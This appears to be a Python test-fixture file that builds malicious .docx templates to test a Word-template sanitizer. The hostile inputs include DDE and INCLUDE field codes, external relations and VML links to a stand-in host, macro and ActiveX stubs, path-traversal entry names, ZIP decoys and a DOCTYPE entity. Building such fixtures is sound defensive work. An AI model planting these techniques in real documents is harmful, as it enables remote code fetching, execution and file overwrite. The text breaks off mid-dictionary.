"""Templates as an attacker would hand them over, built from a template of ours.

What is theirs in each holds the word ``EVIL``: where such a template is used at all, that word may stand nowhere in
what is made from it.
"""

from __future__ import annotations

import struct
import warnings
import zipfile
import zlib
from functools import cache
from io import BytesIO
from typing import TYPE_CHECKING

from xlsx_addin.paper.shipped_templates import FOLDER

if TYPE_CHECKING:
    from collections.abc import Callable

FILE = "D1_PhieuDangKy.docx"
MAIN, HEADER, SETTINGS = "word/document.xml", "word/header3.xml", "word/settings.xml"
MAIN_RELATIONS, PACKAGE_RELATIONS, TYPES = "word/_rels/document.xml.rels", "_rels/.rels", "[Content_Types].xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT = {
    "http://schemas.openxmlformats.org/wordprocessingml/2006/main": "http://purl.oclc.org/ooxml/wordprocessingml/main",
    OFFICE: "http://purl.oclc.org/ooxml/officeDocument/relationships",
}
SHIPPED, REPORT = ((FOLDER / file).read_bytes() for file in (FILE, "D5_BaoCao.docx"))
NAMESPACES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    f'xmlns:r="{OFFICE}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" xmlns:evil="urn:EVIL"'
)

Parts = dict[str, bytes]
_SMALL = 100_000
OLE2 = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(600)


def parts(of: bytes = SHIPPED) -> Parts:
    """The parts of the template that all begins with."""
    with zipfile.ZipFile(BytesIO(of)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(files: Parts | list[tuple[str, bytes]]) -> bytes:
    """A .docx of these parts, names as they are."""
    target = BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items() if isinstance(files, dict) else files:
            entry = zipfile.ZipInfo("x")
            entry.filename = name
            entry.compress_type = zipfile.ZIP_DEFLATED if len(content) > _SMALL else zipfile.ZIP_STORED
            with warnings.catch_warnings():
                warnings.simplefilter("ignore", UserWarning)  # the same name twice is what is tried
                archive.writestr(entry, content)
    return target.getvalue()


def changed(
    more: dict[str, bytes | None] | None = None, replace: tuple[str, bytes, bytes] | None = None, *, of: bytes = SHIPPED
) -> bytes:
    """The template with other parts (None: without it), or with other bytes in one of them."""
    files: dict[str, bytes | None] = {**parts(of), **(more or {})}
    if replace is not None:
        name, old, new = replace
        before = files[name]
        assert before is not None
        assert old in before
        files[name] = before.replace(old, new, 1)
    return zipped({name: content for name, content in files.items() if content is not None})


def in_body(xml: str, more: dict[str, bytes | None] | None = None) -> bytes:
    """The template with this at the beginning of its text; the usual prefixes are declared."""
    body = f"<w:body><w:sdt {NAMESPACES}><w:sdtContent>{xml}</w:sdtContent></w:sdt>"
    return changed(more, (MAIN, b"<w:body>", body.encode()))


def in_paragraph(xml: str, more: dict[str, bytes | None] | None = None) -> bytes:
    """The template with a paragraph that holds this."""
    return in_body(f"<w:p>{xml}</w:p>", more)


def related(kind: str, target: str, more: dict[str, bytes | None] | None = None, *, mode: str = "") -> bytes:
    """The template with one more relation of its main part, ``rEvil``; ``kind`` is the end of its type."""
    xml = f'<Relationship Id="rEvil" Type="{full(kind)}" Target="{target}"{mode}/></Relationships>'
    return changed(more, (MAIN_RELATIONS, b"</Relationships>", xml.encode()))


def with_relation(content: bytes, kind: str, target: str, mode: str = "") -> bytes:
    """The same file with one more relation of its main part, ``rEvil``."""
    with zipfile.ZipFile(BytesIO(content)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    xml = f'<Relationship Id="rEvil" Type="{full(kind)}" Target="{target}"{mode}/></Relationships>'
    files[MAIN_RELATIONS] = files[MAIN_RELATIONS].replace(b"</Relationships>", xml.encode())
    return zipped(files)


def full(kind: str) -> str:
    """The type of a relation; a short one is Word's own."""
    return kind if ":" in kind else f"{OFFICE}/{kind}"


def relations(*of: tuple[str, str, str]) -> bytes:
    """A part of relations: type, target and other attributes of each."""
    rows = "".join(
        f'<Relationship Id="rE{number}" Type="{full(kind)}" Target="{target}" {mode}/>'
        for number, (kind, target, mode) in enumerate(of)
    )
    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{namespace}">{rows}</Relationships>'.encode()


# Field codes.


def code(*pieces: str, result: str = "<w:r><w:t>1</w:t></w:r>", tag: str = "instrText") -> str:
    """A field over several runs, each with a piece of its code."""
    runs = "".join(f"<w:r><w:{tag}>{piece}</w:{tag}></w:r>" for piece in pieces)
    return f"{mark('begin')}{runs}{mark('separate')}{result}{mark('end')}"


def mark(kind: str) -> str:
    """Where a field begins, separates its code from its result, or ends."""
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def dde_part(root: str) -> bytes:
    """A header, footer, comment … that fetches."""
    return f"<w:{root} {NAMESPACES}><w:p>{code('DDEAUTO EVIL')}</w:p></w:{root}>".encode()


def strict(content: bytes) -> bytes:
    """The same part in the namespaces of Strict Open XML."""
    for usual, other in STRICT.items():
        content = content.replace(usual.encode(), other.encode())
    return content


FETCHING = (
    "INCLUDETEXT EVIL.docx",
    "INCLUDEPICTURE http://EVIL/a.png",
    "INCLUDE EVIL",
    "IMPORT EVIL.png",
    "DDE EVIL",
    "DDEAUTO EVIL",
    "HYPERLINK http://EVIL",
    "LINK Excel.Sheet.8 EVIL",
    "EMBED EVIL",
    "DATABASE EVIL",
    "MERGEFIELD EVIL",
    "MACROBUTTON EVIL",
    "GOTOBUTTON EVIL",
    "PRINT EVIL",
    "FILLIN EVIL",
    "ASK EVIL",
    "RD EVIL.docx",
    "DOCVARIABLE EVIL",
    "DOCPROPERTY EVIL",
    "AUTOTEXT EVIL",
    "QUOTE EVIL",
    "IF EVIL",
    "= EVIL",
    "USERNAME EVIL",
    "FILENAME EVIL",
    "PAGE EVIL",
    "PAGE \\# EVIL",
    "ADDIN EVIL",
    "CONTROL EVIL",
    "FORMTEXT EVIL",
    "TOC EVIL",
    "REF EVIL",
    "XE EVIL",
    "PAGE\u00a0EVIL",
    "\u200bDDE EVIL",
)

FIELDS = "có trường “"
ATTACKS: dict[str, tuple[bytes, str | None]] = {}
"""By name: the template, and what is said of it; None where it is used, without what is the attacker's."""

for fetching in FETCHING:
    ATTACKS[f"field {fetching!a}"] = in_paragraph(code(fetching)), FIELDS
ATTACKS |= {
    "field simple": (in_paragraph('<w:fldSimple w:instr="DDEAUTO EVIL"/>'), FIELDS),
    "field simple, lower case": (in_paragraph('<w:fldSimple w:instr=" ddeauto EVIL"/>'), FIELDS),
    "field split": (in_paragraph(code("D", "DEA", "UTO EVIL")), FIELDS),
    "field split over paragraphs": (
        in_body(
            f"<w:p>{mark('begin')}<w:r><w:instrText>DDE</w:instrText></w:r></w:p>"
            f"<w:p><w:r><w:instrText>AUTO EVIL</w:instrText></w:r>{mark('end')}</w:p>"
        ),
        FIELDS,
    ),
    "field within a page number": (in_paragraph(code("PAGE", result=code("DDEAUTO EVIL"))), FIELDS),
    "field within a code": (
        in_paragraph(f"{mark('begin')}{code('DDEAUTO EVIL')}<w:r><w:instrText>PAGE</w:instrText></w:r>{mark('end')}"),
        FIELDS,
    ),
    "field that never ends": (
        in_paragraph(f"{mark('begin')}<w:r><w:instrText>DDE EVIL</w:instrText></w:r>"),
        FIELDS,
    ),
    "field that never begins": (
        in_paragraph(f"<w:r><w:instrText>DDE EVIL</w:instrText></w:r>{mark('end')}"),
        FIELDS,
    ),
    "field code after the separator": (
        in_paragraph(
            f"{mark('begin')}<w:r><w:instrText>PAGE</w:instrText></w:r>{mark('separate')}"
            f"<w:r><w:instrText> DDE EVIL</w:instrText></w:r>{mark('end')}"
        ),
        FIELDS,
    ),
    "field code as ordinary text": (in_paragraph(code("DDEAUTO EVIL", tag="t")), FIELDS),
    "field code half as ordinary text": (
        in_paragraph(f"{mark('begin')}<w:r><w:t>DDE</w:t><w:instrText>AUTO EVIL</w:instrText></w:r>{mark('end')}"),
        FIELDS,
    ),
    "field with an odd mark": (
        in_paragraph(f"{mark('begin')}<w:r><w:instrText>DDE EVIL</w:instrText></w:r>{mark('END')}"),
        FIELDS,
    ),
    "field of a field of ours": (in_paragraph(code("{{ year }}")), FIELDS),
    "field put together by conditions": (
        in_paragraph(code("{% if year %}DDE{% endif %}", "AUTO EVIL")),
        FIELDS,
    ),
    "field in another prefix": (
        in_body(
            '<q:p xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            '<q:fldSimple q:instr="DDE EVIL"/></q:p>'
        ),
        FIELDS,
    ),
    "field deleted, to come back": (
        in_paragraph('<w:del w:id="1" w:author="EVIL"><w:r><w:delInstrText>DDE EVIL</w:delInstrText></w:r></w:del>'),
        "Track Changes",
    ),
    "field within an alternative": (
        in_paragraph(
            f"<w:r><mc:AlternateContent><mc:Fallback>{code('DDE EVIL')}</mc:Fallback></mc:AlternateContent></w:r>"
        ),
        FIELDS,
    ),
    "field in a footnote": (
        related("footnotes", "notes.xml", {"word/notes.xml": dde_part("footnotes")}),
        FIELDS,
    ),
    "field in an endnote": (related("endnotes", "e.xml", {"word/e.xml": dde_part("endnotes")}), FIELDS),
    "field in a list": (
        related("numbering", "n.xml", {"word/n.xml": dde_part("numbering")}),
        FIELDS,
    ),
    "field in a header": (changed({HEADER: dde_part("hdr")}), FIELDS),
    "field in a header of another name": (
        related("header", "myhead.xml", {"word/myhead.xml": dde_part("hdr")}),
        FIELDS,
    ),
    "field in a footer of another folder": (
        related("footer", "../q/foot.bin", {"q/foot.bin": dde_part("ftr")}),
        FIELDS,
    ),
    "field in a header by its absolute name": (
        related("header", "/q/head.xml", {"q/head.xml": dde_part("hdr")}),
        FIELDS,
    ),
    "field in a header by an escaped name": (
        related("header", "%6dyhead.xml", {"word/myhead.xml": dde_part("hdr")}),
        FIELDS,
    ),
    "field in a header by another case": (
        related("header", "MYHEAD.XML", {"word/myhead.xml": dde_part("hdr")}),
        FIELDS,
    ),
    "field in a comment": (related("comments", "comments.xml", {"word/comments.xml": dde_part("comments")}), None),
    "field put into a style": (
        changed(replace=("word/styles.xml", b"</w:styles>", f"<w:p>{code('DDE EVIL')}</w:p></w:styles>".encode())),
        FIELDS,
    ),
    "field put into the settings": (
        changed(replace=(SETTINGS, b"</w:settings>", f"<w:p>{code('DDE EVIL')}</w:p></w:settings>".encode())),
        None,
    ),
    "text unescaped by a raw block": (
        in_paragraph('<w:r><w:t>{% raw %}{{ &lt;w:fldSimple w:instr="DDE EVIL"/&gt; }}{% endraw %}</w:t></w:r>'),
        f"Mẫu “{FILE}”",
    ),
    "field unescaped by a raw block": (
        in_paragraph(
            "<w:r><w:t>{% raw %}{{ &lt;/w:t&gt;&lt;/w:r&gt;&lt;w:fldSimple w:instr=“DDE EVIL”/&gt;"
            "&lt;w:r&gt;&lt;w:t&gt; }}{% endraw %}</w:t></w:r>"
        ),
        FIELDS,
    ),
    "link unescaped by a raw block": (
        in_paragraph(
            "<w:r><w:t>{% raw %}{{ &lt;/w:t&gt;&lt;/w:r&gt;&lt;w:subDoc r:id=“rEvil”/&gt;"
            "&lt;w:r&gt;&lt;w:t&gt; }}{% endraw %}</w:t></w:r>"
        ),
        "đối tượng nhúng",
    ),
    "field put together by a comment of the template language": (
        in_body(
            '<w:p><w:fldSimple w:dirty="{#"/></w:p>'
            '<w:p><w:bookmarkStart w:id="1" w:name="#}" w:instr="DDE EVIL"/></w:p>'
        ),
        f"Mẫu “{FILE}”",
    ),
}

# The main part, its kind, and odd names.

EVIL_MAIN = parts()[MAIN].replace(b"<w:body>", f"<w:body><w:p>{code('DDEAUTO EVIL')}</w:p>".encode())
EVIL_TEXT = parts()[MAIN].replace(b"<w:body>", b"<w:body><w:p><w:r><w:t>EVIL</w:t></w:r></w:p>")
TO_EVIL = parts()[PACKAGE_RELATIONS].replace(b"word/document.xml", b"word/evil.xml")
TYPES_OF_EVIL = parts()[TYPES].replace(b"/word/document.xml", b"/word/evil.xml")
EVIL_RELATIONS = {"word/_rels/evil.xml.rels": parts()[MAIN_RELATIONS]}
DAMAGED, STRICT_SAID, OUTSIDE, OBJECT = "bị hỏng", "Strict", "liên kết ra ngoài", "đối tượng nhúng"
ATTACKS |= {
    "decoy: the relations lead to another main part": (
        changed({PACKAGE_RELATIONS: TO_EVIL, TYPES: TYPES_OF_EVIL, "word/evil.xml": EVIL_MAIN, **EVIL_RELATIONS}),
        FIELDS,
    ),
    "decoy: the bait is not copied": (
        changed(
            {
                PACKAGE_RELATIONS: TO_EVIL,
                TYPES: TYPES_OF_EVIL,
                "word/evil.xml": parts()[MAIN],
                MAIN: EVIL_TEXT,
                **EVIL_RELATIONS,
            }
        ),
        None,
    ),
    "decoy: two main parts": (
        changed({PACKAGE_RELATIONS: relations(("officeDocument", MAIN, ""), ("officeDocument", "word/evil.xml", ""))}),
        DAMAGED,
    ),
    "decoy: another case": (
        zipped([("Word/Document.xml", EVIL_MAIN), *((n, c) for n, c in parts().items() if n != MAIN)]),
        FIELDS,
    ),
    "decoy: the same name in another case": (zipped([*parts().items(), ("Word/Document.xml", EVIL_MAIN)]), DAMAGED),
    "decoy: the same name with the other slash": (
        zipped([*parts().items(), ("word\\document.xml", EVIL_MAIN)]),
        DAMAGED,
    ),
    "decoy: the same name twice": (zipped([*parts().items(), (MAIN, EVIL_MAIN)]), DAMAGED),
    "decoy: relations with another spelling": (
        zipped([("_RELS/.RELS", TO_EVIL), *((n, c) for n, c in parts().items() if n != PACKAGE_RELATIONS)]),
        DAMAGED,
    ),
    "name: out of the folder": (changed({"../../EVIL.txt": b"EVIL"}), None),
    "name: out of the folder, other slash": (changed({"..\\..\\EVIL.txt": b"EVIL"}), None),
    "name: absolute": (changed({"/etc/EVIL": b"EVIL"}), None),
    "name: a drive": (changed({"C:\\EVIL.txt": b"EVIL"}), None),
    "name: nobody leads there": (changed({"word/EVIL.xml": b"EVIL"}), None),
    "name: a target out of the folder": (
        related("header", "../../../EVIL.xml", {"../../EVIL.xml": dde_part("hdr")}),
        DAMAGED,
    ),
    "kind: with macros": (
        changed(replace=(TYPES, b"document.main+xml", b"document.macroEnabled.main+xml")),
        "macro",
    ),
    "kind: a template": (changed(replace=(TYPES, b"document.main+xml", b"template.main+xml")), DAMAGED),
    "kind: two for one part": (
        changed(
            replace=(
                TYPES,
                b"</Types>",
                b'<Override PartName="/WORD/document.xml" ContentType="application/EVIL"/></Types>',
            )
        ),
        DAMAGED,
    ),
    "kind: a header that is a document": (
        related("header", "h.xml", {"word/h.xml": EVIL_TEXT}),
        DAMAGED,
    ),
    "kind: styles that are a header": (related("header", "styles.xml"), DAMAGED),
    "kind: two parts of settings": (related("settings", "s.xml", {"word/s.xml": parts()[SETTINGS]}), DAMAGED),
    "strict: main part": (changed({MAIN: strict(EVIL_MAIN)}), STRICT_SAID),
    "strict: only the field": (
        in_body(
            f'<s:p xmlns:s="{next(iter(STRICT.values()))}"><s:fldSimple s:instr="DDEAUTO EVIL"/></s:p>',
        ),
        STRICT_SAID,
    ),
    "strict: relation of the file": (changed({PACKAGE_RELATIONS: strict(parts()[PACKAGE_RELATIONS])}), STRICT_SAID),
    "strict: relations of the main part": (changed({MAIN_RELATIONS: strict(parts()[MAIN_RELATIONS])}), STRICT_SAID),
    "strict: a header": (changed({HEADER: strict(dde_part("hdr"))}), STRICT_SAID),
    "strict: everything": (zipped({name: strict(content) for name, content in parts().items()}), STRICT_SAID),
}

# Relations and addresses that leave the file.

EXTERNAL = ' TargetMode="External"'
for target in ("http://EVIL/a", "file:///EVIL", "\\\\EVIL\\share\\a.docx", "//EVIL/a", "C:\\EVIL", "mhtml:http://EVIL"):
    ATTACKS[f"outside: header at {target}"] = related("header", target), OUTSIDE
    ATTACKS[f"outside: image at {target}"] = related("image", target, mode=EXTERNAL), OUTSIDE
for kind in ("hyperlink", "image", "attachedTemplate", "frame", "oleObject", "subDocument", "urn:EVIL"):
    said = OBJECT if kind in {"oleObject", "subDocument"} else OUTSIDE
    ATTACKS[f"outside: {kind}"] = related(kind, "http://EVIL/a", mode=EXTERNAL), said
for spelling in ("external", "EXTERNAL", " External", "Externally"):
    ATTACKS[f"outside: mode {spelling!r}"] = related("image", "a.png", mode=f' TargetMode="{spelling}"'), OUTSIDE
for spelling in ("word/_rels/document.xml.RELS", "word/_RELS/document.xml.rels", "Word/_rels/Document.xml.Rels"):
    ATTACKS[f"outside: in {spelling}"] = (
        changed({MAIN_RELATIONS: None, spelling: relations(("hyperlink", "http://EVIL", EXTERNAL))}),
        OUTSIDE,
    )
ATTACKS |= {
    "outside: of the whole file": (
        changed({PACKAGE_RELATIONS: relations(("officeDocument", MAIN, ""), ("urn:EVIL", "http://EVIL", EXTERNAL))}),
        OUTSIDE,
    ),
    "outside: of a header": (
        changed({"word/_rels/header3.xml.rels": relations(("image", "http://EVIL/a.png", EXTERNAL))}),
        OUTSIDE,
    ),
    "outside: of the settings": (
        changed({"word/_rels/settings.xml.rels": relations(("attachedTemplate", "http://EVIL/a.dotm", EXTERNAL))}),
        None,
    ),
    "outside: of a part that nobody needs": (
        related(
            "webSettings",
            "web.xml",
            {"word/web.xml": b"<EVIL/>", "word/_rels/web.xml.rels": relations(("frame", "http://EVIL", EXTERNAL))},
        ),
        None,
    ),
    "outside: a relation with an attribute of its own": (
        related("image", "a.png", mode=' targetmode="External"'),
        DAMAGED,
    ),
    "outside: two relations of one name": (
        changed(
            {
                MAIN_RELATIONS: relations(("styles", "styles.xml", "")).replace(
                    b"</Rel", b'<Relationship Id="rE0" Type="urn:EVIL" Target="a"/></Rel'
                )
            }
        ),
        DAMAGED,
    ),
    "outside: an id that is no name": (
        changed(
            replace=(
                MAIN_RELATIONS,
                b"</Relationships>",
                f'<Relationship Id="{{{{ year }}}}" Type="{full("image")}" Target="a.png"/></Relationships>'.encode(),
            )
        ),
        DAMAGED,
    ),
}
for name, attribute in (
    ("src", 'src="http://EVIL/a.png"'),
    ("src without a scheme", 'src="EVIL.png"'),
    ("src of a field", 'src="{{ year }}"'),
    ("o:href", 'o:href="http://EVIL/a"'),
    ("o:althref", 'o:althref="\\\\EVIL\\a"'),
    ("o:relid", 'o:relid="rEvil"'),
    ("r:href", 'r:href="rEvil"'),
    ("r:pict", 'r:pict="rEvil"'),
    ("SRC", 'SRC="file:EVIL"'),
):
    ATTACKS[f"vml: imagedata {name}"] = (
        in_paragraph(f"<w:r><w:pict><v:shape><v:imagedata {attribute}/></v:shape></w:pict></w:r>"),
        OUTSIDE,
    )
ATTACKS |= {
    "vml: shape with a link": (in_paragraph('<w:r><w:pict><v:rect href="http://EVIL"/></w:pict></w:r>'), OUTSIDE),
    "vml: fill with a source": (
        in_paragraph('<w:r><w:pict><v:rect><v:fill src="//EVIL/a"/></v:rect></w:pict></w:r>'),
        OUTSIDE,
    ),
    "vml: an address in a style": (
        in_paragraph('<w:r><w:pict><v:rect style="background:url(http://EVIL)"/></w:pict></w:r>'),
        OUTSIDE,
    ),
    "vml: a drawing packed within": (in_paragraph('<w:r><w:pict><v:rect o:gfxdata="EVIL"/></w:pict></w:r>'), None),
    "vml: something that happens on a click": (
        in_paragraph('<w:r><w:pict><v:rect onclick="EVIL()"/></w:pict></w:r>'),
        None,
    ),
    "vml: a picture that nobody has": (
        in_paragraph('<w:r><w:pict><v:shape><v:imagedata r:id="rNone"/></v:shape></w:pict></w:r>'),
        DAMAGED,
    ),
    "vml: in a header": (
        changed(
            {
                HEADER: f"<w:hdr {NAMESPACES}><w:p><w:r><w:pict><v:rect href='http://EVIL'/></w:pict></w:r></w:p>"
                "</w:hdr>".encode()
            }
        ),
        OUTSIDE,
    ),
    "vml: in an alternative": (
        in_paragraph(
            "<w:r><mc:AlternateContent><mc:Choice Requires='evil'><w:t>EVIL</w:t></mc:Choice><mc:Fallback><w:pict>"
            "<v:rect href='http://EVIL'/></w:pict></mc:Fallback></mc:AlternateContent></w:r>"
        ),
        OUTSIDE,
    ),
    "hyperlink with a relation": (
        in_paragraph('<w:hyperlink r:id="rEvil"><w:r><w:t>x</w:t></w:r></w:hyperlink>'),
        OUTSIDE,
    ),
    "hyperlink to a place": (
        in_paragraph('<w:hyperlink w:anchor="EVIL"><w:r><w:t>x</w:t></w:r></w:hyperlink>'),
        None,
    ),
    "hyperlink with a target of its own": (
        in_paragraph('<w:hyperlink w:docLocation="http://EVIL"><w:r><w:t>x</w:t></w:r></w:hyperlink>'),
        OUTSIDE,
    ),
    "address in an attribute": (in_paragraph('<w:bookmarkStart w:id="1" w:name="http://EVIL"/>'), OUTSIDE),
}

# What acts, embeds, binds or tells.

PICTURE = (
    "<w:r><w:drawing><wp:inline><wp:extent cx='9' cy='9'/><wp:docPr id='1' name='EVIL' descr='EVIL'>{link}</wp:docPr>"
    "<a:graphic><a:graphicData uri='{uri}'><pic:pic><pic:nvPicPr><pic:cNvPr id='1' name='EVIL'/><pic:cNvPicPr/>"
    "</pic:nvPicPr><pic:blipFill><a:blip {blip}/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic>"
    "</wp:inline></w:drawing></w:r>"
)
PICTURE_URI = "http://schemas.openxmlformats.org/drawingml/2006/picture"


def drawing(*, blip: str = "", link: str = "", uri: str = PICTURE_URI) -> str:
    """A picture in the text."""
    return PICTURE.format(blip=blip, link=link, uri=uri)


def png(width: int = 1, height: int = 1) -> bytes:
    """A grey picture; only one of a few dots is whole."""
    rows = b"".join(b"\0" + b"\x80" * width for _ in range(min(height, 4)))
    chunks = (
        (b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)),
        (b"IDAT", zlib.compress(rows)),
        (b"IEND", b""),
    )
    packed = b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )
    return b"\x89PNG\r\n\x1a\n" + packed


IGNORABLE = 'xmlns:evil="urn:EVIL" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
ATTACKS |= {
    "image linked to": (in_paragraph(drawing(blip="r:link='rEvil'")), OUTSIDE),
    "image with a link": (in_paragraph(drawing(link="<a:hlinkClick r:id='rEvil'/>")), OUTSIDE),
    "image with a link on hover": (in_paragraph(drawing(link="<a:hlinkHover r:id=''/>")), OUTSIDE),
    "image with words and a name": (
        with_relation(
            in_paragraph(drawing(blip="r:embed='rEvil'"), {"word/media/a.png": png()}), "image", "media/a.png"
        ),
        None,
    ),
    "image with an extension": (
        with_relation(
            in_paragraph(
                drawing(blip="r:embed='rEvil'").replace(
                    "<a:blip r:embed='rEvil'/>",
                    "<a:blip r:embed='rEvil'><a:extLst><a:ext uri='EVIL'><evil:svg/></a:ext></a:extLst></a:blip>",
                ),
                {"word/media/a.png": png()},
            ),
            "image",
            "media/a.png",
        ),
        None,
    ),
    "image that is a metafile": (
        related("image", "media/a.emf", {"word/media/a.emf": b"\1\0\0\0" + bytes(60) + b" EMFEVIL"}),
        "PNG hoặc JPEG",
    ),
    "image that is drawn by text": (
        related("image", "media/a.png", {"word/media/a.png": b"<svg xmlns='http://EVIL'/>"}),
        "PNG hoặc JPEG",
    ),
    "image of endless size": (
        related("image", "media/a.png", {"word/media/a.png": png(60_000, 60_000)}),
        "quá lớn",
    ),
    "image without a size": (related("image", "a.jpg", {"word/a.jpg": b"\xff\xd8\xff\xe0\0\x04EV\xff\xda"}), "JPEG"),
    "image that is not there": (related("image", "media/EVIL.png"), DAMAGED),
    "drawing that is a chart": (in_paragraph(drawing(uri="http://schemas.openxmlformats.org/EVIL/chart")), "“chart”"),
    "alternative text in another format": (in_body('<w:altChunk r:id="rEvil"/>'), OBJECT),
    "part in another format": (related("aFChunk", "a.html", {"word/a.html": b"<EVIL>"}), OBJECT),
    "document within": (in_body('<w:p><w:subDoc r:id="rEvil"/></w:p>'), OBJECT),
    "object": (in_paragraph("<w:r><w:object><o:OLEObject ProgID='EVIL'/></w:object></w:r>"), OBJECT),
    "object of a picture": (in_paragraph("<w:r><w:pict><o:OLEObject r:id='rEvil'/></w:pict></w:r>"), OBJECT),
    "object's relation": (related("oleObject", "embeddings/o.bin", {"word/embeddings/o.bin": b"EVIL"}), OBJECT),
    "object that nobody leads to": (changed({"word/embeddings/o.bin": b"EVIL"}), None),
    "control": (in_paragraph('<w:r><w:control r:id="rEvil" w:name="EVIL"/></w:r>'), OBJECT),
    "control's relation": (related("control", "activeX/a.xml", {"word/activeX/a.xml": b"<EVIL/>"}), OBJECT),
    "controls that nobody leads to": (changed({"word/activeX/activeX1.xml": b"<EVIL/>"}), None),
    "macros": (
        related(
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "vbaProject.bin",
            {"word/vbaProject.bin": b"EVIL"},
        ),
        OBJECT,
    ),
    "macros that nobody leads to": (changed({"word/vbaProject.bin": b"EVIL"}), None),
    "macro of a form's field": (
        in_paragraph(
            '<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="EVIL"/></w:ffData></w:fldChar></w:r>'
        ),
        OBJECT,
    ),
    "movie": (in_paragraph('<w:r><w:movieRef r:id="rEvil"/></w:r>'), OBJECT),
    "ribbon": (
        changed(
            {
                PACKAGE_RELATIONS: relations(
                    ("officeDocument", MAIN, ""),
                    ("http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/c.xml", ""),
                ),
                "customUI/c.xml": b"<EVIL/>",
            }
        ),
        None,
    ),
    "data source of a mail merge": (
        changed(
            replace=(
                SETTINGS,
                b"</w:settings>",
                b'<w:mailMerge><w:connectString w:val="EVIL"/><w:query w:val="EVIL"/></w:mailMerge></w:settings>',
            )
        ),
        None,
    ),
    "another template": (
        changed(replace=(SETTINGS, b"</w:settings>", b'<w:attachedTemplate r:id="rEvil"/></w:settings>')),
        None,
    ),
    "variables": (
        changed(
            replace=(
                SETTINGS,
                b"</w:settings>",
                b'<w:docVars><w:docVar w:name="EVIL" w:val="EVIL"/></w:docVars><w:linkStyles/></w:settings>',
            )
        ),
        None,
    ),
    "box tied to data": (
        in_body(
            '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/EVIL" w:storeItemID="EVIL"/></w:sdtPr><w:sdtContent><w:p/>'
            "</w:sdtContent></w:sdt>",
            {"customXml/item1.xml": b"<EVIL/>"},
        ),
        None,
    ),
    "data": (related("customXml", "../customXml/item1.xml", {"customXml/item1.xml": b"<EVIL/>"}), None),
    "building blocks": (
        related("glossaryDocument", "glossary/document.xml", {"word/glossary/document.xml": EVIL_MAIN}),
        None,
    ),
    "frames": (related("webSettings", "web.xml", {"word/web.xml": b"<EVIL/>"}), None),
    "fonts within": (
        related(
            "fontTable",
            "f.xml",
            {
                "word/f.xml": f'<w:fonts {NAMESPACES}><w:font w:name="A"><w:embedRegular r:id="rF" w:fontKey="EVIL"/>'
                "</w:font></w:fonts>".encode(),
                "word/_rels/f.xml.rels": relations(("font", "fonts/EVIL.odttf", "")),
                "word/fonts/EVIL.odttf": b"EVIL",
            },
        ),
        None,
    ),
    "fonts from outside": (
        related(
            "fontTable",
            "f.xml",
            {
                "word/f.xml": f'<w:fonts {NAMESPACES}><w:font w:name="A"/></w:fonts>'.encode(),
                "word/_rels/f.xml.rels": relations(("font", "http://EVIL", EXTERNAL)),
            },
        ),
        None,
    ),
    "comment": (
        in_paragraph('<w:commentRangeStart w:id="1"/><w:r><w:commentReference w:id="1"/></w:r>'),
        None,
    ),
    "change that nobody decided on": (
        in_paragraph('<w:ins w:id="1" w:author="EVIL"><w:r><w:t>EVIL</w:t></w:r></w:ins>'),
        "Track Changes",
    ),
    "printer": (
        changed(
            replace=("word/document.xml", b"</w:sectPr>", b'<w:printerSettings r:id="rEvil"/></w:sectPr>'),
        ),
        None,
    ),
    "element of nobody": (in_body("<evil:x/>"), "“x”"),
    "element of nobody that may be left out": (
        changed(
            replace=(
                MAIN,
                b"<w:document ",
                f'<w:document {IGNORABLE} mc:Ignorable="evil" evil:a="EVIL" '.encode(),
            )
        ),
        None,
    ),
    "element of Word's that is not named": (in_body('<w:customXmlEVIL w:uri="urn:x"/>'), "“customXmlEVIL”"),
    "properties": (
        changed(
            {
                PACKAGE_RELATIONS: relations(
                    ("officeDocument", MAIN, ""),
                    ("extended-properties", "docProps/app.xml", ""),
                    ("custom-properties", "docProps/custom.xml", ""),
                    (
                        "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
                        "docProps/core.xml",
                        "",
                    ),
                    (
                        "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail",
                        "docProps/thumbnail.jpeg",
                        "",
                    ),
                ),
                "docProps/app.xml": b"<Properties><Company>EVIL</Company></Properties>",
                "docProps/custom.xml": b"<Properties>C:\\Users\\EVIL</Properties>",
                "docProps/core.xml": b"<coreProperties><creator>EVIL</creator></coreProperties>",
                "docProps/thumbnail.jpeg": b"EVIL",
            }
        ),
        None,
    ),
}

# Document types, encodings, entities.

DOCTYPE = '<!DOCTYPE x [<!ENTITY a "EVIL">]>'
_PLAIN_MAIN = parts()[MAIN].decode()
_BODY = _PLAIN_MAIN.partition("?>")[2]


def declared(encoding: str, start: str = DOCTYPE, body: str = _BODY) -> str:
    """The main part with a document type, that says of itself that it is in this encoding."""
    return f'<?xml version="1.0" encoding="{encoding}"?>{start}{body}'


ATTACKS |= {
    "doctype": (changed({MAIN: declared("UTF-8").encode()}), DAMAGED),
    "doctype from elsewhere": (
